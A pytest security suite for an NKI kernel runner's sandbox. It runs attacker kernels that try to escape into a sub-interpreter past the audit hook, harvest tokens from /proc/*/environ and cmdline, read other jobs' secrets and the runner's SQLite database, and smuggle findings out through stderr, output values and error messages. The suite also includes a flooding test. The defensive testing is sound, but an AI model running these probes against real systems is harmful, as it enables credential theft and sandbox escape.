"""Attacks on the remote runner itself, from kernels it runs and from a client flooding it.

A real ``nki-agent runner serve`` subprocess on 127.0.0.1 (two slots) with two clients: the victim's
token, which is the runner's own (``NKI_AGENT_RUNNER_TOKEN`` in its environment, a canary), and the
attacker's (``--tokens-file``). Each attack is an attacker's kernel that probes from inside its job —
in a sub-interpreter, which the kernel role's audit hook does not follow (the hook is a tripwire; the
jail is the boundary), and in the kernel's own interpreter — then smuggles what it found out through
its result: stderr always, plus its output values (6 hex digits per float32: the first mismatch shows
them) or its error message:

- ``other_jobs``: a victim job whose kernel text holds a secret is running (its folder exists) and is in
  the runner's SQLite database; the attacker walks up from its own file to the jobs folder and the
  state folder, and follows every ``/proc/*/fd`` link to a database, reading every file there;
- ``token``: ``/proc/self|1|<ppid>|*/environ`` (and the per-thread ``task/*/environ``, which the audit
  hook does not name), ``/proc/1/cmdline``, ``/proc/*/cmdline``, ``os.environ``;
- ``network``: a connection to the runner's own port on 127.0.0.1 (the only address named here),
  submitting a job with the attacker's token and a marker nonce: the runner's database must not
  hold it afterwards.

Each attack reports ``PROBED`` from where it ran, so a pass means the probe ran and found nothing, not
that it never started. ``test_without_the_jail_every_attack_succeeds`` runs the same kernels on a
runner whose jail is forced off (``NKI_AGENT_BWRAP=/nonexistent`` + ``--unsafe-no-sandbox``): there
every attack does get its secret out (or its job in), so the jailed tests can fail. Flooding: one
token's burst of submissions is cut at the per-token cap (503) while a second token is still served.
"""

from __future__ import annotations

import json
import os
import secrets
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from security_helpers import (
    L1_ADD,
    SECRET_VARS,
    TASK,
    TOOLS,
    canary_marks,
    jail_reason,
    jail_works,
    make_canary,
    now_ticks,
    survivors,
)
from security_runner import RunnerProcess, backend_started, follow, request, submit

pytestmark = pytest.mark.skipif(not jail_works(), reason=f"this machine's jail does not work: {jail_reason()}")

JOB_BOUND = 240.0  # safety net per job (seconds); every job here ends in a few seconds, the victim when cancelled

ADD = '''

@nki.jit
def add_kernel(a, b):
    """out = a + b, one 128-row tile at a time{note}."""
    {before}
    n_rows, n_cols = a.shape
    out = nl.ndarray((n_rows, n_cols), dtype=a.dtype, buffer=nl.shared_hbm)
    P = nl.tile_size.pmax
    for r0 in range(0, n_rows, P):
        rows = min(P, n_rows - r0)
        a_tile = nl.ndarray((rows, n_cols), dtype=a.dtype, buffer=nl.sbuf)
        b_tile = nl.ndarray((rows, n_cols), dtype=b.dtype, buffer=nl.sbuf)
        c_tile = nl.ndarray((rows, n_cols), dtype=a.dtype, buffer=nl.sbuf)
        nisa.dma_copy(dst=a_tile, src=a[r0:r0 + rows, :])
        nisa.dma_copy(dst=b_tile, src=b[r0:r0 + rows, :])
        nisa.tensor_tensor(dst=c_tile, data1=a_tile, data2=b_tile, op=nl.add)
        nisa.dma_copy(dst=out[r0:r0 + rows, :], src=c_tile)
    {after}
    return out
'''

HEADER = '''import importlib
import json
import os
import sys
import time

import nki
import nki.isa as nisa
import nki.language as nl
'''

VICTIM = HEADER + '''
SECRET = "{secret}"  # the victim's own secret: no other client may ever see it


def _hold():
    """Keep the job (and its folder) alive until the victim cancels it (bounded: 120 s)."""
    for _ in range(240):
        time.sleep(0.5)
''' + ADD.format(note=" (after holding the slot)", before="_hold()", after="")

# The probe: plain Python run in a sub-interpreter (findings sent back on a channel) and in the kernel's
# interpreter; SETTINGS is filled in by the kernel. Secrets are recognised by their shape only.
PROBE = r'''
import glob, json, os, re

FOUND = []
VICTIM = re.compile(rb"nkivictim-[0-9a-f]{24}")
CANARY = re.compile(rb"nkicanary-[0-9a-f]{24}")


def _read(path, cap=8 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(cap)
    except OSError:
        return b""


def _read_at(folder, name):
    """``folder/name`` through a directory descriptor (the hook sees only the bare name)."""
    try:
        fd = os.open(folder, os.O_RDONLY)
    except OSError:
        return b""
    try:
        inner = os.open(name, os.O_RDONLY, dir_fd=fd)
        with os.fdopen(inner, "rb") as f:
            return f.read(1 << 20)
    except OSError:
        return b""
    finally:
        os.close(fd)


def other_jobs():
    here = os.path.dirname(SETTINGS["file"])
    # the jobs folder: every other job's folder (the kernel's file is in <job>/kernel/, its job in jobs/)
    roots = [os.path.dirname(here), os.path.dirname(os.path.dirname(here))]
    d = here
    for _ in range(4):  # the state folder: the first ancestor holding a database
        d = os.path.dirname(d)
        try:
            if any(n.endswith(".sqlite3") for n in os.listdir(d)):
                roots.append(d)
                break
        except OSError:
            pass
    for link in sorted(glob.glob("/proc/[0-9]*/fd/*"))[:50000]:  # a runner's open database, wherever it is
        try:
            target = os.readlink(link)
        except OSError:
            continue
        if os.path.basename(target) == "runner.sqlite3":
            roots.append(os.path.dirname(target))
    files = 0
    for root in list(dict.fromkeys(roots))[:8]:
        for dirpath, dirnames, filenames in os.walk(root):
            for name in filenames:
                files += 1
                path = os.path.join(dirpath, name)
                for m in VICTIM.findall(_read(path)):
                    FOUND.append("LEAK " + m.decode() + " in " + path)
            if files > 5000:
                break
    return f"files={files} roots={len(roots)}"


def token():
    ppid = os.getppid()
    paths = [f"/proc/{ppid}/environ", "/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"]
    procs = sorted(glob.glob("/proc/[0-9]*"))[:4096]
    for p in procs:
        paths += [p + "/environ", p + "/cmdline"]
        paths += sorted(glob.glob(p + "/task/*/environ"))[:2]
    data = [_read(p, 1 << 20) for p in paths] + [_read_at(f"/proc/{ppid}", "environ")]
    data += [_read_at(p, "environ") for p in procs]
    data.append("\n".join(os.environ.values()).encode())
    for blob in data:
        for m in CANARY.findall(blob):
            FOUND.append("LEAK " + m.decode())
    return f"procs={len(procs)} ppid={ppid}"


def network():
    import socket

    body = json.dumps({"op": "compile", "kernel": {"name": "k.py", "text": "x = 1\n"},
                       "nonce": SETTINGS["marker"]})
    head = (f"POST /v1/jobs HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {SETTINGS['bearer']}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n")
    try:
        with socket.create_connection(("127.0.0.1", SETTINGS["port"]), timeout=5) as s:
            s.sendall((head + body).encode())
            answer = s.recv(200).decode("latin-1").split("\r\n", 1)[0]
        FOUND.append("NET-CONNECTED " + answer)
    except OSError as e:
        return f"NET-FAILED {type(e).__name__}: {e}"
    return "connected"


try:
    summary = globals()[SETTINGS["attack"]]()
except Exception as e:
    summary = f"raised {type(e).__name__}: {e}"
report = json.dumps({"found": list(dict.fromkeys(FOUND)), "summary": summary})
try:
    cid
except NameError:
    OUT.append(report)
else:
    import _xxsubinterpreters
    _xxsubinterpreters.channel_send(cid, report.encode())
'''

ATTACKER = HEADER + '''
SETTINGS = {settings}
SETTINGS["file"] = os.path.abspath(__file__)
CHANNEL = "{channel}"
PROBE = {probe}


def _probe():
    """The probe in a sub-interpreter (the audit hook is per interpreter); where there is none, in this one."""
    summaries = []
    code = "SETTINGS = " + repr(SETTINGS) + "\\n" + PROBE
    try:
        interp = importlib.import_module("_xx" + "subinterpreters")
        cid = interp.channel_create()
        sub = interp.create()
        try:
            interp.run_string(sub, code, shared={{"cid": cid}})
            got = json.loads(interp.channel_recv(cid).decode())
            return got["found"], ["PROBED[sub] " + got["summary"]]
        finally:
            interp.destroy(sub)
    except Exception as e:
        summaries.append(f"sub-interpreter: {{type(e).__name__}}: {{e}}")
    out = []
    try:
        exec(code, {{"OUT": out}})
        got = json.loads(out[0])
        return got["found"], summaries + ["PROBED[main] " + got["summary"]]
    except Exception as e:
        return [], summaries + [f"main: {{type(e).__name__}}: {{e}}"]


FINDINGS, SUMMARIES = _probe()


def _smuggle(out):
    print("\\n".join(SUMMARIES + FINDINGS), file=sys.stderr)
    if CHANNEL == "error":
        raise RuntimeError(" | ".join(SUMMARIES + FINDINGS))
    leaks = [f.split()[1] for f in FINDINGS if f.startswith("LEAK ")]
    if CHANNEL == "outputs" and leaks:
        digits = leaks[0].split("-", 1)[1]
        for i in range(0, len(digits), 6):
            cell = nl.ndarray((1, 1), dtype=nl.float32, buffer=nl.sbuf)
            nisa.memset(dst=cell, value=float(int(digits[i:i + 6], 16)))
            nisa.dma_copy(dst=out[0:1, i // 6:i // 6 + 1], src=cell)
''' + ADD.format(note=", then the loot", before="", after="_smuggle(out)")


def attacker_kernel(attack: str, channel: str, port: int, bearer: str, marker: str) -> str:
    settings = {"attack": attack, "port": port, "bearer": bearer, "marker": marker}
    return ATTACKER.format(settings=repr(settings), channel=channel, probe=repr(PROBE))


# ------------------------------------------------------------------------------------------- runners
@dataclass
class AttackWorld:
    """A runner with two clients: the victim's token (the runner's own, a canary in its environment) and
    the attacker's (from ``--tokens-file``)."""

    runner: RunnerProcess
    victim: str
    attacker: str
    jailed: bool

    @classmethod
    def create(cls, base: Path, jailed: bool, *args: str) -> AttackWorld:
        victim, attacker = make_canary(), "attacker-" + secrets.token_hex(12)
        (base / "tokens").write_text(attacker + "\n")
        env = {k: v for k, v in os.environ.items() if k not in SECRET_VARS and k != "NKI_AGENT_BWRAP"}
        env.update({var: victim for var in SECRET_VARS}, HOME=str(base), TMPDIR=str(base))
        extra = ["--tokens-file", str(base / "tokens"), *args]
        if not jailed:
            env["NKI_AGENT_BWRAP"] = "/nonexistent"  # jails forced off, as on a host without namespaces
            extra.append("--unsafe-no-sandbox")
        runner = RunnerProcess(base / "state", base / "runner.stderr", env, extra, cwd=base)
        runner.start()
        TOOLS.add(runner.pid)
        return cls(runner, victim, attacker, jailed)

    def close(self) -> None:
        self.runner.close()
        TOOLS.discard(self.runner.pid)


def _world(tmp_path_factory: pytest.TempPathFactory, name: str, jailed: bool, *args: str) -> Iterator[AttackWorld]:
    world = AttackWorld.create(tmp_path_factory.mktemp(name), jailed, *args)
    try:
        yield world
    finally:
        world.close()


@pytest.fixture(scope="module")
def jailed_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackWorld]:
    yield from _world(tmp_path_factory, "jailed", True, "--workers", "2")


@pytest.fixture(scope="module")
def open_world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackWorld]:
    yield from _world(tmp_path_factory, "unjailed", False, "--workers", "2")


# ------------------------------------------------------------------------------------------- one attack
@dataclass
class Outcome:
    victim_secret: str
    marker: str
    status: dict[str, Any]  # the attacker's final job status
    text: str  # everything the attacker got back: its job status and its event stream
    victim_id: str
    foreign: int  # what the attacker's token got for the victim's job id (404 expected)

    @property
    def result(self) -> dict[str, Any]:
        return self.status.get("result") or {}


def attack(world: AttackWorld, kind: str, channel: str) -> Outcome:
    """A victim job holding a secret is running (its folder exists) when the attacker's job runs."""
    victim_secret = "nkivictim-" + make_canary().split("-", 1)[1]
    marker = "nkinet-" + secrets.token_hex(12)
    task = TASK.read_text()
    with world.runner.client(world.victim) as v, world.runner.client(world.attacker) as a:
        victim = submit(v, request("victim.py", VICTIM.format(secret=victim_secret), task, seeds=1, timeout=150.0,
                                   nonce="victim"))
        started, _ = follow(v, victim["id"], JOB_BOUND, stop=backend_started)
        assert started is not None and started.get("state") == "running", started
        kernel = attacker_kernel(kind, channel, world.runner.port, world.attacker, marker)
        job = submit(a, request("attacker.py", kernel, task, seeds=2, timeout=60.0, nonce="attacker"))
        final, stream = follow(a, job["id"], JOB_BOUND)
        assert final is not None, stream[-2000:]
        status = a.get(f"/v1/jobs/{job['id']}")
        foreign = a.get(f"/v1/jobs/{victim['id']}").status_code
        v.delete(f"/v1/jobs/{victim['id']}")
        ended, _ = follow(v, victim["id"], JOB_BOUND)
        assert ended is not None and ended["state"] in ("cancelled", "done"), ended
        assert a.get("/healthz").status_code == 200  # the runner stays up and answers
    return Outcome(victim_secret, marker, status.json(), status.text + "\n" + stream, victim["id"], foreign)


def leaks(secret: str, text: str) -> list[str]:
    return [m.group(0) for m in (p.search(text) for p in canary_marks(secret)) if m]


CASES = [("other_jobs", "outputs"), ("other_jobs", "error"), ("token", "outputs"), ("token", "error"),
         ("network", "error")]


def _leaked(world: AttackWorld, kind: str, out: Outcome) -> list[str]:
    """What the attack got: the secret it was after, in what came back, or its job inside the runner."""
    if kind == "other_jobs":
        return leaks(out.victim_secret, out.text)
    if kind == "token":
        return leaks(world.victim, out.text)
    got = [f"{n} job(s) with the marker nonce" for n in [world.runner.jobs_in_store(out.marker)] if n]
    return got + (["NET-CONNECTED"] if "NET-CONNECTED" in out.text else [])


# ----------------------------------------------------------------------------------------------- tests
@pytest.mark.parametrize(("kind", "channel"), CASES, ids=[f"{k}-{c}" for k, c in CASES])
def test_a_kernel_gets_nothing_out_of_the_runner(jailed_world: AttackWorld, kind: str, channel: str) -> None:
    since = now_ticks()
    out = attack(jailed_world, kind, channel)
    res = out.result
    assert out.status["state"] == "done" and res.get("sandbox") == "bwrap", out.text[-3000:]
    assert "PROBED[" in out.text, f"the probe did not run: {out.text[-3000:]}"
    assert not _leaked(jailed_world, kind, out), out.text[-3000:]
    log = jailed_world.runner.log.read_text(errors="replace")
    assert not leaks(out.victim_secret, log) and not leaks(jailed_world.victim, log), log[-3000:]
    assert out.foreign == 404  # the attacker's token cannot see the victim's job either
    left = survivors(since, "nkivictim", TOOLS)
    assert not left, left


@pytest.mark.parametrize(("kind", "channel"), CASES, ids=[f"{k}-{c}" for k, c in CASES])
def test_without_the_jail_every_attack_succeeds(open_world: AttackWorld, kind: str, channel: str) -> None:
    """The same kernels where the jail is off: each gets its loot out through stderr and through its
    channel (output values or error message), or its job into the runner, so the jailed test above can fail."""
    out = attack(open_world, kind, channel)
    res = out.result
    assert res.get("sandbox") == "unsandboxed", out.text[-3000:]
    assert _leaked(open_world, kind, out), out.text[-3000:]
    if kind == "network":
        assert open_world.runner.jobs_in_store(out.marker) == 1 and "NET-CONNECTED" in res.get("stderr", "")
        return
    secret = out.victim_secret if kind == "other_jobs" else open_world.victim
    assert leaks(secret, res.get("stderr", "")), res.get("stderr", "")[-3000:]
    where = res.get("seeds") if channel == "outputs" else res.get("problems")
    assert leaks(secret, json.dumps(where)), json.dumps(where)[-3000:]
    if kind == "other_jobs":  # both places: the victim's running job folder and the runner's database
        stderr = res.get("stderr", "")
        assert f"jobs{os.sep}job-" in stderr and ".sqlite3" in stderr, stderr[-3000:]


def test_one_token_flooding_does_not_lock_out_another(tmp_path: Path) -> None:
    """A burst of concurrent submissions from one token: exactly the per-token cap is accepted, the rest get
    503; a second token from ``--tokens-file`` is still accepted and served, and the runner stays up."""
    cap = 3
    world = AttackWorld.create(tmp_path, True, "--workers", "1", "--queue-per-token", str(cap), "--no-cache")
    try:
        task = TASK.read_text()
        with world.runner.client(world.victim) as flood, world.runner.client(world.attacker) as other:
            answers: list[httpx.Response] = []
            lock = threading.Lock()
            go = threading.Event()

            def fire(n: int) -> None:
                go.wait(30)
                body = request("victim.py", VICTIM.format(secret=f"nkivictim-{n:024x}"), task, seeds=1,
                               timeout=150.0, nonce=f"flood-{n}")
                with world.runner.client(world.victim) as c:
                    r = c.post("/v1/jobs", json=body)
                with lock:
                    answers.append(r)

            threads = [threading.Thread(target=fire, args=(n,)) for n in range(16)]
            for t in threads:
                t.start()
            go.set()
            for t in threads:
                t.join(120)
            codes = sorted(r.status_code for r in answers)
            assert codes == [202] * cap + [503] * (16 - cap), codes
            refused = next(r for r in answers if r.status_code == 503).json()["error"]
            assert "unfinished jobs" in refused, refused
            assert flood.get("/healthz").status_code == 200
            good = L1_ADD.read_text() + "\n# the other client\n"
            mine = submit(other, request("kernel.py", good, task, seeds=1, timeout=60.0, nonce="other"))
            for r in answers:  # the flooder gives up: its jobs are cancelled, queued or running
                if r.status_code == 202:
                    flood.delete(f"/v1/jobs/{r.json()['id']}")
            final, stream = follow(other, mine["id"], JOB_BOUND)
            assert final is not None and final["state"] == "done", stream[-2000:]
            assert final["result"]["correct"] and final["result"]["sandbox"] == "bwrap", json.dumps(final)[-2000:]
            assert final["nonce"] == "other"
    finally:
        world.close()
